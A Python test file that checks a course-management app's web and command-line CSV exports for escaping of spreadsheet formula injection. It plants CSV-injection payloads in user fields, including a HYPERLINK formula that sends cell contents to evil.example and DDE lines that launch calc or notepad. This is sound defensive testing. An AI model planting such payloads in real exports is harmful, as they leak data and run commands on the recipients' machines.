"""No CSV shooc writes can be run as a formula (OWASP "CSV Injection"): every export
on the web and on the command line, with formula payloads in every text a learner or
a leader controls (names, e-mail addresses, organisations, workbook titles, course
objectives). The decision on numbers is in shooc/csvfile.py: our own numbers, negative
ones too, stay numbers."""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from sqlalchemy.orm import Session

from conftest import TODAY, Auth, complete_and_submit
from shooc.csvfile import FORMULA_STARTS, csv_text, safe_cell
from shooc.enrolment.services import enrol

# Formula payloads, each allowed where it is typed (e-mail local parts may start with = + -).
PAYLOADS = {
    "name": ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"],
    "email": ["=1+2@example.org", "+cmd@example.org", "-1@example.org"],
    "organisation": ["=cmd|' /C notepad'!'A1'", "@import"],
}
NUMBER_RE = re.compile(r"^-?\d+(\.\d+)?$")


def assert_no_formula(text: str) -> list[list[str]]:
    """Every cell is safe: it starts with no formula character, unless it is one of
    our own numbers. Returns the rows."""
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or NUMBER_RE.match(cell), (cell, row)
    return rows


def test_safe_cell_escapes_text_and_leaves_our_numbers() -> None:
    assert [safe_cell(v) for v in ("=1", "+1", "-1", "@a", "\tx", "\rx", "plain", "", None)] == [
        "'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "plain", "", ""]
    assert [safe_cell(v) for v in (-3, 0.25, -0.5, True)] == [-3, 0.25, -0.5, "True"]
    assert csv_text([["a", "b"], ["=x", -1]]) == "a,b\r\n'=x,-1\r\n"


@pytest.fixture
def poisoned_run(db: Session, make_user, make_run, publish, course_copy: Path):  # type: ignore[no-untyped-def]
    """A run of a course whose first workbook's title and first objective are formulas
    (shown in pages, not in today's CSVs: here in case they come), with a learner for
    each payload, each with a badge; one with a certificate."""
    workbook = course_copy / "01-the-mentors-role.md"
    workbook.write_text(workbook.read_text().replace("title: The mentor's role", "title: \"=HYPERLINK(\\\"x\\\")\"", 1))
    course = course_copy / "course.md"
    course.write_text(course.read_text().replace(
        "  - Understand the role", "  - \"-2+3 Understand\"\n  - Understand the role", 1))
    publish(course_copy)
    run = make_run(name="=Run name", slug="spring")
    learners = []
    for i, name in enumerate(PAYLOADS["name"]):
        email = PAYLOADS["email"][i] if i < len(PAYLOADS["email"]) else f"learner{i}@example.org"
        user = make_user("learner", email=email, name=name)
        user.organisation = PAYLOADS["organisation"][i % 2]
        learners.append(enrol(db, run, user.id, TODAY))
    db.commit()
    for enrolment in learners:
        complete_and_submit(db, enrolment, "the-mentors-role")
    for w in run.course.current_version.workbooks:
        complete_and_submit(db, learners[0], w.slug)
    db.commit()
    return run


def test_every_web_export_escapes_formulas(client, auth: Auth, make_user, poisoned_run) -> None:
    run = poisoned_run
    auth.login(make_user("leader"))
    participants = assert_no_formula(client.get(f"/lead/runs/{run.slug}/participants?format=csv").get_data(as_text=True))
    names = {row[0] for row in participants[1:]}
    assert {"'" + name.strip() for name in PAYLOADS["name"]} <= names  # escaped, still readable
    assert "'=1+2@example.org" in {row[1] for row in participants[1:]}
    assert "'=cmd|' /C notepad'!'A1'" in {row[2] for row in participants[1:]}
    template = client.get(f"/lead/runs/{run.slug}/import/template.csv").get_data(as_text=True)
    assert_no_formula(template)
    auth.logout()

    auth.login(make_user("evaluator"))
    stats = assert_no_formula(client.get(f"/evaluate/runs/{run.slug}/stats.csv").get_data(as_text=True))
    flat = dict(zip(*stats))  # slugs and numbers only (titles are not in it)
    assert flat["registered"] == str(len(PAYLOADS["name"])) and flat["run"] == "spring"
    assert_no_formula(client.get(f"/evaluate/runs/{run.slug}/progress.csv").get_data(as_text=True))
    assert_no_formula(client.get(f"/evaluate/compare.csv?run={run.slug}&run={run.slug}").get_data(as_text=True))


@pytest.mark.parametrize("command, escaped", [
    (["badges", "list", "spring", "--format", "csv"], {"'=1+2@example.org", "'+cmd@example.org", "'-1@example.org"}),
    (["certificates", "list", "spring", "--format", "csv"], {"'=1+2@example.org"}),
    (["stats", "spring", "--format", "csv"], set()),
])
def test_every_command_line_csv_escapes_formulas(runner, poisoned_run, command: list[str], escaped: set[str]) -> None:
    result = runner.invoke(args=command)
    assert result.exit_code == 0, result.output
    rows = assert_no_formula(result.output)
    assert escaped <= {cell for row in rows for cell in row}, rows
